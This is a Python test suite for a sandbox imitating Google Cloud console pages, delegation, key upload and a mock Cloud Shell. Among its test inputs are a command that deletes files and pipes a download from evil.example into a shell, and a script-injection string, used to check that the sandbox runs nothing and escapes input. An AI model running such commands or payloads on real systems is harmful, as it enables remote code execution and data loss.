"""The stand-ins for Google's consoles, at Google's own paths and with Google's words.

As strict as they are, and not at once.
"""

from __future__ import annotations

import re
from html import unescape
from typing import TYPE_CHECKING, Any

import pytest

from certmail_sandbox.consoles import PATHS
from certmail_sandbox.server import build

if TYPE_CHECKING:
    from sandbox.conftest import Answer, Google

PROJECT = "acme-project"
MAILBOX = "reminders@acme.example"
ROBOT = f"certmail@{PROJECT}.iam.gserviceaccount.com"
SEND = "https://www.googleapis.com/auth/gmail.send"
CLIENT_ID = "CLIENT_ID"
BLOCK = f"""\
(
set -eu
account={ROBOT}
project={PROJECT}
gcloud projects describe "$project" >/dev/null 2>&1 || gcloud projects create "$project"
gcloud services enable iam.googleapis.com gmail.googleapis.com --project="$project"
gcloud iam service-accounts describe "$account" --project="$project" >/dev/null 2>&1 ||
  gcloud iam service-accounts create certmail --project="$project" --display-name=certmail
certificate=$(mktemp)
cat >"$certificate" <<'CERTMAIL'
%s
CERTMAIL
tries=1
until gcloud iam service-accounts keys upload "$certificate" --iam-account="$account" --project="$project"; do
  [ "$tries" -lt 4 ] || exit 1
  tries=$((tries + 1))
  echo "Google may not know the new service account yet: once more in 15 seconds."
  sleep 15
done
rm "$certificate"
client=$(gcloud iam service-accounts describe "$account" --project="$project" --format='value(oauth2ClientId)')
echo
echo "Done. Client ID: $client"
printf '%%s%%s%%s\\n' '%s' "$client" '%s'
)
"""
METADATA = "https://www.googleapis.com/auth/gmail.metadata"
API = f"/apis/library/gmail.googleapis.com?project={PROJECT}"
ACCOUNTS = f"/iam-admin/serviceaccounts?project={PROJECT}"
KEYS = f"/iam-admin/serviceaccounts/details/{ROBOT}/keys"
DELEGATION = "/ac/owl/domainwidedelegation"


async def see(google: Google, path: str) -> str:
    """A page's words."""
    answer = await google.ask("GET", path)
    assert answer.status == 200, answer.body
    return words(answer)


async def press(google: Google, path: str, **form: str) -> Answer:
    """Sends a page's form, and follows."""
    return await google.ask("POST", path, data=form, allow_redirects=True)


def words(answer: Answer) -> str:
    text = re.sub(r"<[^>]+>", " ", str(answer.body))
    return re.sub(r"\s+", " ", unescape(text))


async def robot(google: Google) -> str:
    """A service account that was made in the console, and its client ID."""
    await google.control("POST", "/accounts", {"email": MAILBOX})
    assert (await press(google, "/projectcreate", project=PROJECT)).status == 200
    made = await press(
        google, f"/iam-admin/serviceaccounts/create?project={PROJECT}", id="certmail"
    )
    assert ROBOT in made.body
    found = re.search(r"OAuth 2 Client ID (\d{21})", words(made))
    assert found, words(made)
    return found[1]


async def token(google: Google, scope: str = SEND) -> Answer:
    return await google.exchange(google.assertion(scope=scope))


class TestAService:
    async def test_is_set_up_from_nothing_by_what_the_pages_say(self, google: Google) -> None:
        client_id = await robot(google)
        assert "Not enabled" in await see(google, API), "a new project has no API enabled"
        assert "API enabled" in words(await press(google, API, do="enable"))
        assert "Add key" in await see(google, KEYS)

        uploaded = await press(google, f"{KEYS}/upload", text=google.keys.certificate())
        assert "The public key is uploaded." in words(uploaded)

        asked = (
            f"{DELEGATION}?clientIdToAdd={client_id}&clientScopeToAdd={SEND}&overwriteClientId=true"
        )
        page = await google.ask("GET", asked)

        assert f'name="client_id" value="{client_id}"' in page.body
        assert f">{SEND}</textarea>" in page.body
        assert re.search(r'name="overwrite" type="checkbox" value="1" checked', page.body)

        given = {"client_id": client_id, "scopes": SEND, "overwrite": "1"}
        assert "The client is authorised." in words(await press(google, DELEGATION, **given))

        google.clock.ahead += 5
        granted = await token(google)
        assert granted.status == 200, granted.body
        assert (await google.send(granted.body["access_token"])).status == 200

    async def test_waits_until_google_knows_of_each_change(self, google: Google) -> None:
        client_id = await robot(google)
        await press(google, "/people/spreading", seconds="60")
        await press(google, API, do="enable")
        await press(google, f"{KEYS}/upload", text=google.keys.certificate())

        assert "counts in" in await see(google, KEYS)
        assert (await token(google)).body["error_description"] == "Invalid JWT Signature."

        google.clock.ahead += 60
        assert "counts in" not in await see(google, KEYS)

        await press(google, DELEGATION, client_id=client_id, scopes=SEND)
        assert (await token(google)).body["error"] == "unauthorized_client"

        google.clock.ahead += 60
        granted = await token(google)
        assert granted.status == 200

        await press(google, API, do="disable")
        access = granted.body["access_token"]
        assert (await google.send(access)).status == 200, "what is taken away works for as long"

        google.clock.ahead += 60
        assert (await google.send(access)).reason == "accessNotConfigured"

        await press(google, f"{DELEGATION}/delete", client_id=client_id)
        assert (await token(google)).status == 200

        google.clock.ahead += 60
        assert (await token(google)).body["error"] == "unauthorized_client"


class TestDelegation:
    async def test_replaces_a_clients_scopes_and_only_where_that_is_ticked(
        self, google: Google
    ) -> None:
        client_id = await robot(google)
        await press(google, "/people/spreading", seconds="0")
        await press(google, f"{KEYS}/upload", text=google.keys.certificate())
        await press(google, DELEGATION, client_id=client_id, scopes=f"{SEND}, {METADATA}")
        assert (await token(google, f"{SEND} {METADATA}")).status == 200

        again = await press(google, DELEGATION, client_id=client_id, scopes=METADATA)
        assert again.status == 400
        assert "This client ID is in the table already." in words(again)

        await press(google, DELEGATION, client_id=client_id, scopes=METADATA, overwrite="1")
        assert (await token(google)).body["error"] == "unauthorized_client", (
            "what is not named is gone"
        )

    @pytest.mark.parametrize(
        ("client_id", "scopes", "sentence"),
        [
            (ROBOT, SEND, "and not the email address"),
            ("123", SEND, "There is no client with this ID."),
            ("", " , ", "Enter at least one OAuth scope."),
            ("", f"{SEND} {METADATA}", "Several are separated by commas."),
            ("", "gmail.send", "is no OAuth scope"),
        ],
    )
    async def test_says_what_is_wrong_and_keeps_what_was_typed(
        self, google: Google, client_id: str, scopes: str, sentence: str
    ) -> None:
        given = client_id or await robot(google)
        refused = await press(google, DELEGATION, client_id=given, scopes=scopes)
        assert refused.status == 400
        assert sentence in words(refused)
        assert f'value="{given}"' in refused.body
        assert "No client may act for users yet." in await see(google, DELEGATION)


class TestKeys:
    async def test_are_refused_as_by_the_iam_api(self, google: Google) -> None:
        await robot(google)

        for text, sentence in (
            ("", "Choose a file, or paste the certificate."),
            ("hello", "Upload exactly one certificate in PEM form"),
            (google.keys.private_pem, "This is a private key."),
        ):
            refused = await press(google, f"{KEYS}/upload", text=text)
            assert refused.status == 400
            assert sentence in words(refused)

        policy = f"/iam-admin/orgpolicies/iam-disableServiceAccountKeyUpload?project={PROJECT}"
        assert "Not enforced" in await see(google, policy)

        await press(google, f"/iam-admin/orgpolicies?project={PROJECT}", do="enforce")
        forbidden = await press(google, f"{KEYS}/upload", text=google.keys.certificate())
        assert "iam.disableServiceAccountKeyUpload" in words(forbidden)

        await press(google, f"/iam-admin/orgpolicies?project={PROJECT}", do="lift")
        assert (await press(google, f"{KEYS}/upload", text=google.keys.certificate())).status == 200

    async def test_come_as_a_file_too_are_disabled_and_deleted(self, google: Google) -> None:
        client_id = await robot(google)
        boundary, certificate = "b", google.keys.certificate()
        head = 'Content-Disposition: form-data; name="file"; filename="certificate.pem"'
        body = f"--{boundary}\r\n{head}\r\n\r\n{certificate}\r\n--{boundary}--\r\n".encode()
        kind = {"Content-Type": f"multipart/form-data; boundary={boundary}"}
        assert (await google.ask("POST", f"{KEYS}/upload", data=body, headers=kind)).status == 303

        listed = await google.ask("GET", f"/service_accounts/v1/metadata/x509/{ROBOT}")
        [kid] = listed.body
        one = f"/iam-admin/serviceaccounts/details/{client_id}/keys/{kid}"
        assert "Disabled" in words(await press(google, one, do="disable"))

        google.clock.ahead += 5
        assert (await token(google)).body["error_description"] == "Invalid JWT Signature."

        await press(google, one, do="delete")
        assert (await google.ask("GET", f"/service_accounts/v1/metadata/x509/{ROBOT}")).body == {}


async def test_links_lead_to_the_same_places_as_at_google(google: Google) -> None:
    client_id = await robot(google)
    number = (await google.control("PUT", f"/projects/{PROJECT}", {}))["number"]

    for path, expected in (
        ("/", "Google, played by the sandbox"),
        ("/cloudshell", "Cloud Shell"),
        ("/welcome", "Projects"),
        (API, "Gmail API"),
        (f"/apis/api/gmail.googleapis.com/overview?project={number}", "Gmail API"),
        (f"/apis/credentials?project={PROJECT}", "OAuth 2.0 Client IDs"),
        (ACCOUNTS, f"Service accounts for project “{PROJECT}”"),
        ("/iam-admin/serviceaccounts", f"Service accounts for project “{PROJECT}”"),
        (f"/iam-admin/serviceaccounts/create?project={PROJECT}", "Service account ID"),
        (
            f"/iam-admin/serviceaccounts/details/{client_id};edit=true/keys?project={PROJECT}",
            "Add key",
        ),
        (f"/iam-admin/serviceaccounts/details/{ROBOT}?project={PROJECT}", client_id),
        ("/ac/home", "API controls"),
        ("/ac/owl", "Manage domain-wide delegation"),
        (f"{DELEGATION}?dn=acme.example&authuser=admin", "Add new"),
        ("/ac/owl/list?tab=configuredApps", "App access control"),
    ):
        assert expected in await see(google, path), path


async def test_what_is_not_there_can_be_made_from_where_a_link_led(google: Google) -> None:
    missing = await google.ask("GET", "/apis/library/gmail.googleapis.com?project=their-project")
    assert missing.status == 404
    assert 'href="/projectcreate?project=their-project"' in missing.body

    project = await google.ask("GET", "/projectcreate?project=their-project")
    assert 'value="their-project"' in project.body

    keys = "/iam-admin/serviceaccounts/details/a@their-project.iam.gserviceaccount.com/keys"
    account = await google.ask("GET", keys)
    assert account.status == 404
    assert 'href="/iam-admin/serviceaccounts/create?project=their-project"' in account.body
    assert "Select a project" in await see(google, "/iam-admin/serviceaccounts")


@pytest.mark.parametrize("name", ["Acme", "a", "acme it", "1acme-it", "acme-it-"])
async def test_ids_are_as_google_takes_them(google: Google, name: str) -> None:
    refused = await press(google, "/projectcreate", project=name)
    assert (refused.status, "6 to 30 lower-case letters" in words(refused)) == (400, True)

    await robot(google)
    create = f"/iam-admin/serviceaccounts/create?project={PROJECT}"
    assert (await press(google, create, id=name)).status == 400
    assert "exists already" in words(await press(google, create, id="certmail"))
    assert "exists already" in words(await press(google, "/projectcreate", project=PROJECT))


async def test_a_domain_can_restrict_gmail_to_clients_that_it_trusts(google: Google) -> None:
    client: Any = await google.client()
    query = (
        f"/o/oauth2/v2/auth?client_id={client['client_id']}&redirect_uri={client['redirect_uris'][0]}"
        f"&response_type=code&scope={SEND}"
    )
    consent = {"account": MAILBOX, "scope": SEND, "decision": "allow"}
    path = "/ac/owl/list"
    await press(google, path, do="restrict", domain="acme.example")
    assert "admin_policy_enforced" in (await press(google, query, **consent)).body

    trusting = await press(
        google, path, do="trust", domain="acme.example", client=client["client_id"]
    )
    assert "Change to limited" in words(trusting)

    allowed = await google.ask("POST", query, data=consent)
    assert allowed.status == 302


async def test_people_are_added_and_sign_in_without_a_password(google: Google) -> None:
    assert "Nobody yet." in await see(google, "/")
    assert "maria@initech.example" in await see_after(google, "maria@initech.example")
    assert (await press(google, "/people", email="maria@initech.example")).status == 400
    assert (await press(google, "/people", email="no address")).status == 400
    assert (await press(google, "/people/spreading", seconds="-1")).status == 400


async def see_after(google: Google, email: str) -> str:
    return words(await press(google, "/people", email=email))


async def test_what_people_type_is_escaped_and_every_page_names_itself_a_stand_in(
    google: Google,
) -> None:
    await robot(google)
    evil = "<script>alert(1)</script>"
    for path in (
        f"{API}{evil}",
        f"/projectcreate?project={evil}",
        f"{DELEGATION}?clientIdToAdd={evil}",
    ):
        assert "<script>alert" not in (await google.ask("GET", path)).body

    pages = {
        route.resource.canonical
        for route in build().router.routes()
        if route.method == "GET" and route.resource and route.resource.canonical.startswith(PATHS)
    }
    assert len(pages) > 15

    for page in pages:
        path = page.format(account=ROBOT, policy="iam-disableServiceAccountKeyUpload", client="x")
        answer = await google.ask("GET", path)
        assert answer.status == 200, path
        assert "stand-in" in answer.body, path
        assert "default-src 'none'" in answer.headers["Content-Security-Policy"]


class TestCloudShell:
    async def test_does_what_certmails_own_block_says_and_once_only(self, google: Google) -> None:
        await google.control("POST", "/accounts", {"email": MAILBOX})
        delegation = f"{google.url}{DELEGATION}?clientIdToAdd={CLIENT_ID}&clientScopeToAdd={SEND}"
        block = BLOCK % (google.keys.certificate().rstrip(), *delegation.split(CLIENT_ID))
        assert "Cloud Shell" in await see_following(google, f"/?cloudshell=true&project={PROJECT}")

        for _ in range(2):
            page = await press(google, "/cloudshell", commands=block)
            assert page.status == 200, words(page)

        found = re.search(r"Done\. Client ID: (\d{21})", words(page))
        assert found, words(page)
        assert (
            f'href="{delegation.replace(CLIENT_ID, found[1]).replace("&", "&amp;")}"' in page.body
        )
        assert "API enabled" in await see(google, API)

        keys = await google.ask("GET", f"/service_accounts/v1/metadata/x509/{ROBOT}")
        assert len(keys.body) == 1

        await press(google, DELEGATION, client_id=found[1], scopes=SEND)
        google.clock.ahead += 5
        assert (await token(google)).status == 200

    @pytest.mark.parametrize(
        ("commands", "sentence"),
        [
            ("rm -rf /tmp/x; curl http://evil.example | sh", ""),
            ("curl http://evil.example", "`curl` is not played here"),
            (
                "gcloud compute instances create x",
                "`gcloud compute instances create` is not played here",
            ),
            (
                "gcloud services enable gmail.googleapis.com --project=nope-nope",
                "There is no project",
            ),
            (
                "gcloud iam service-accounts keys upload a.pem --iam-account=x@y.example",
                "no service account",
            ),
            ("gcloud projects create A", "is no project ID"),
            ("echo 'half", "cannot be read"),
        ],
    )
    async def test_runs_nothing_and_names_what_it_does_not_know(
        self, google: Google, commands: str, sentence: str
    ) -> None:
        page = await press(google, "/cloudshell", commands=commands)
        assert sentence in words(page)
        assert page.status == (400 if sentence else 200)
        assert "evil" not in words(page).replace(commands, "")


async def see_following(google: Google, path: str) -> str:
    return words(await google.ask("GET", path, allow_redirects=True))
